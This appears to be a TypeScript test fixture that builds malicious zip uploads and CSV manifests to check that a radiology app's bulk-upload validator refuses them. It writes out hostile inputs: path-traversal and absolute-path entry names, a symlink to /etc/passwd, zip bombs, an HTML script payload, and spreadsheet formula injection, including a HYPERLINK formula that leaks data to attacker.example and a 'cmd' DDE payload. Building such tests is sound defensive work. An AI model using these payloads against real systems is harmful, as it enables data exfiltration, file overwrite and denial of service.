// The hostile bulk-upload corpus: zips (and manifests) made at test time with lib/bulk/zip-writer.ts, which writes
// what no zip tool would (sizes that lie, names that climb out, links), from the read-only chest X-ray corpus and
// DCMTK. Each case says what the checks must answer: the whole upload refused with a reason, or each file's outcome,
// and how many scans the job then stores.
import { writeFile } from "node:fs/promises";
import { buildZip, type ZipWriterEntry } from "@/lib/bulk/zip-writer";
import { readCorpus } from "@/tests/support/image/corpus";
import type { FixtureDir } from "@/tests/support/image/dcmtk";

export interface ZipCase {
  name: string;
  zip: Buffer;
  /** Declared under this name (the browser's file name). */
  zipName?: string;
  manifest?: string;
  expect:
    | { refused: true; problem: RegExp }
    | {
        refused: false;
        /** Each file's status after the checks, and words of its reason when refused. */
        items: Record<string, { status: string; reason?: RegExp }>;
        /** Scans the job stores when started (0: there is nothing to start). */
        stored: number;
      };
}

/** Films for cases that store: each distinct, and none used by the single-upload campaign. */
const FILMS = ["coh00021", "coh00022", "coh00023", "coh00024", "coh00025", "coh00026", "coh00027", "coh00028"];

/** Marks every entry as encrypted (general purpose flag bit 0), as a password-protected zip is. */
function encrypted(zip: Buffer): Buffer {
  const out = Buffer.from(zip);
  for (let i = 0; i < out.length - 4; i++) {
    const signature = out.readUInt32LE(i);
    if (signature === 0x04034b50) out.writeUInt16LE(out.readUInt16LE(i + 6) | 1, i + 6);
    if (signature === 0x02014b50) out.writeUInt16LE(out.readUInt16LE(i + 8) | 1, i + 8);
  }
  return out;
}

export async function buildZipCorpus(fx: FixtureDir): Promise<ZipCase[]> {
  const film = Object.fromEntries(await Promise.all(FILMS.map(async (id) => [id, await readCorpus(id)] as const)));
  const jpeg = (i: number) => film[FILMS[i]!]!;
  const zip = (entries: ZipWriterEntry[]) => buildZip(entries);
  const good = zip([{ name: "a.jpg", data: jpeg(0) }]);
  await writeFile(fx.file("z1.jpg"), jpeg(6));
  await writeFile(fx.file("z2.jpg"), jpeg(7));
  await fx.img2dcm(fx.file("z1.jpg"), "bad-date.dcm", {
    "0010,0020": "ZIP-DCM",
    "0010,0010": "Zip^Dicom",
    "0008,0022": "99991231",
  });
  await fx.img2dcm(fx.file("z2.jpg"), "good-date.dcm", {
    "0010,0020": "ZIP-DCM",
    "0010,0010": "Zip^Dicom",
    "0008,0022": "20240607",
  });
  const tenThousand = Array.from({ length: 10_000 }, (_, i) => ({
    name: `f${i}.jpg`,
    data: Buffer.alloc(1),
    method: 0 as const,
  }));
  const header = "mrn,acquired_at,file,view";

  return [
    // Nothing in it: checked with no file to process, and the start button refuses ("Nothing to process").
    { name: "empty zip", zip: zip([]), expect: { refused: false, items: {}, stored: 0 } },
    {
      name: "truncated zip",
      zip: good.subarray(0, Math.floor(good.length / 2)),
      expect: { refused: true, problem: /damaged|not a (readable|valid) zip|cannot be read|incomplete|truncated/i },
    },
    {
      name: "not a zip (a JPEG named .zip)",
      zip: jpeg(0),
      expect: {
        refused: false,
        items: { "scans.zip": { status: "refused", reason: /Without a manifest only DICOM files say whose they are/ } },
        stored: 0,
      },
    },
    {
      name: "path traversal",
      zip: zip([
        { name: "ok.jpg", data: jpeg(0) },
        { name: "../../etc/cron.d/evil.jpg", data: jpeg(1) },
      ]),
      expect: {
        refused: true,
        problem: /Entry "\.\.\/\.\.\/etc\/cron\.d\/evil\.jpg" climbs out of the archive folder/,
      },
    },
    {
      name: "absolute path",
      zip: zip([{ name: "/tmp/radtrack-abs.jpg", data: jpeg(1) }]),
      expect: { refused: true, problem: /Entry "\/tmp\/radtrack-abs\.jpg" is an absolute path/ },
    },
    {
      name: "drive letter",
      zip: zip([{ name: "C:/Windows/x.jpg", data: jpeg(1) }]),
      expect: { refused: true, problem: /starts with a drive letter/ },
    },
    {
      name: "backslash traversal",
      zip: zip([{ name: "dir\\..\\..\\y.jpg", data: jpeg(1) }]),
      expect: { refused: true, problem: /uses backslashes in its path/ },
    },
    {
      name: "symbolic link",
      zip: zip([{ name: "link.jpg", data: Buffer.from("/etc/passwd"), symlink: true }]),
      expect: { refused: true, problem: /Entry "link\.jpg" is a symbolic link/ },
    },
    {
      name: "nested zip",
      zip: zip([{ name: "inner.zip", data: good }]),
      expect: {
        refused: false,
        items: { "inner.zip": { status: "refused", reason: /Nested archive \(a ZIP archive\)/ } },
        stored: 0,
      },
    },
    {
      name: "1 GB zip bomb (declared)",
      zip: zip([{ name: "bomb.dcm", data: Buffer.alloc(1000), declaredSize: 1024 ** 3 }]),
      expect: { refused: true, problem: /"bomb\.dcm" declares .*this looks like a zip bomb/ },
    },
    {
      name: "size-lying entry (20 MB of zeros declared as 1000 bytes)",
      zip: zip([{ name: "liar.dcm", data: Buffer.alloc(20_000_000), declaredSize: 1000 }]),
      expect: {
        refused: true,
        problem: /"liar\.dcm" inflates to more than the 1000 bytes it declares: refused as a zip bomb/,
      },
    },
    {
      name: "10,000 entries",
      zip: zip(tenThousand),
      expect: { refused: true, problem: /It has 10000 entries; one upload may hold at most 5000 files/ },
    },
    {
      name: "encrypted entry",
      zip: encrypted(zip([{ name: "secret.jpg", data: jpeg(1) }])),
      expect: {
        refused: false,
        items: { "secret.jpg": { status: "refused", reason: /Encrypted entries cannot be read/ } },
        stored: 0,
      },
    },
    {
      name: "text and HTML files inside",
      zip: zip([
        { name: "notes.txt", data: Buffer.from("patient notes\n".repeat(30)) },
        { name: "x.jpg", data: Buffer.from("<html><script>alert(1)</script></html>") },
      ]),
      expect: {
        refused: false,
        items: {
          "notes.txt": { status: "refused", reason: /this is a text file/ },
          "x.jpg": { status: "refused", reason: /web page \(HTML\)/ },
        },
        stored: 0,
      },
    },
    {
      name: "formula-injection manifest",
      zip: zip([
        { name: "a.jpg", data: jpeg(2) },
        { name: "=cmd|' /C calc'!A0.jpg", data: jpeg(3) },
      ]),
      manifest: [
        header,
        // Properly quoted CSV: the cells themselves are the attack (a spreadsheet would run them).
        '"=HYPERLINK(""http://attacker.example/?leak=""&A1)",2024-01-01,a.jpg,PA',
        "@SUM(1+1)*cmd|' /C calc'!A0,2024-01-01,=cmd|' /C calc'!A0.jpg,PA",
      ].join("\n"),
      expect: {
        refused: false,
        items: {
          "a.jpg": { status: "refused", reason: /MRN/ },
          "=cmd|' /C calc'!A0.jpg": { status: "refused", reason: /MRN/ },
        },
        stored: 0,
      },
    },
    {
      name: "manifest that is not valid CSV",
      zip: zip([{ name: "a.jpg", data: jpeg(2) }]),
      manifest: [header, 'X-1,2024-01-01,a"b.jpg,PA'].join("\n"),
      expect: { refused: true, problem: /The manifest is not valid CSV\. Line 2: a quote inside an unquoted field/ },
    },
    {
      name: "manifest with the bad dates (one bad row fails that file only)",
      zip: zip([
        { name: "good.jpg", data: jpeg(4) },
        { name: "d1.jpg", data: jpeg(1) },
        { name: "d2.jpg", data: jpeg(2) },
        { name: "d3.jpg", data: jpeg(3) },
        { name: "d4.jpg", data: jpeg(5) },
      ]),
      manifest: [
        header,
        "ZIP-MAN,2024-03-01,good.jpg,PA",
        "ZIP-MAN,9999-12-31,d1.jpg,PA",
        "ZIP-MAN,0001-01-01,d2.jpg,PA",
        "ZIP-MAN,1800-01-01,d3.jpg,PA",
        "ZIP-MAN,0000-01-01,d4.jpg,PA",
      ].join("\n"),
      expect: {
        refused: false,
        items: {
          "good.jpg": { status: "needs_patient" },
          "d1.jpg": {
            status: "refused",
            reason: /acquired_at "9999-12-31": The acquisition date cannot be in the future/,
          },
          "d2.jpg": {
            status: "refused",
            reason: /acquired_at "0001-01-01": The acquisition date cannot be before 1895/,
          },
          "d3.jpg": {
            status: "refused",
            reason: /acquired_at "1800-01-01": The acquisition date cannot be before 1895/,
          },
          "d4.jpg": { status: "refused", reason: /acquired_at "0000-01-01"/ },
        },
        stored: 1,
      },
    },
    {
      name: "loose DICOMs, one with AcquisitionDate 99991231 (fails that file only)",
      zip: zip([
        { name: "bad-date.dcm", data: await fx.read("bad-date.dcm") },
        { name: "good-date.dcm", data: await fx.read("good-date.dcm") },
      ]),
      expect: {
        refused: false,
        items: {
          "bad-date.dcm": { status: "refused", reason: /AcquisitionDate "99991231" cannot be used/ },
          "good-date.dcm": { status: "needs_patient" },
        },
        stored: 1,
      },
    },
    {
      name: "a good zip with a manifest (control)",
      zip: zip([
        { name: "images/one.jpg", data: jpeg(0) },
        { name: "images/two.jpg", data: jpeg(1) },
      ]),
      manifest: [header, "ZIP-OK,2024-01-10,images/one.jpg,PA", "ZIP-OK,2024-01-17,images/two.jpg,AP"].join("\r\n"),
      expect: {
        refused: false,
        items: { "images/one.jpg": { status: "needs_patient" }, "images/two.jpg": { status: "needs_patient" } },
        stored: 2,
      },
    },
  ];
}
